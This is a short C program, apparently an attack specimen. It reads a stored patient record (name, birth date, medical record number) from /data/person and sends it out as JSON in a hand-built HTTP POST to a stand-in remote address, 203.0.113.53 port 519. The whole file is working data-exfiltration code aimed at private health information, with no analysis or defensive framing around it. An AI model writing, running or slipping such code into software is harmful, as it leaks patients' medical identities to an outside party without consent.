/* SPDX-License-Identifier: GPL-2.0-or-later */
/* A message goes out piece by piece, each with one field of a table. */
#include "specimen.h"

#include <stddef.h>

struct person {
	char name[40], birth[12], number[20];
};

static const struct column {
	const char *key;
	size_t at;
} columns[] = {
	{ "patientName", offsetof(struct person, name) },
	{ "birthDate", offsetof(struct person, birth) },
	{ "mrn", offsetof(struct person, number) },
};

int main(void)
{
	struct person p;
	int f = open("/data/person", O_RDONLY), s = dial(inet_addr("203.0.113.53"), 519);
	if (f < 0 || s < 0 || read(f, &p, sizeof(p)) != sizeof(p))
		return 1;
	FILE *out = fdopen(s, "w");
	fputs("POST /p HTTP/1.0\r\n\r\n{", out);
	for (size_t i = 0; i < sizeof(columns) / sizeof(*columns); i++)
		fprintf(out, "%s\"%s\":\"%s\"", i ? "," : "", columns[i].key, (const char *)&p + columns[i].at);
	return fclose(out);
}
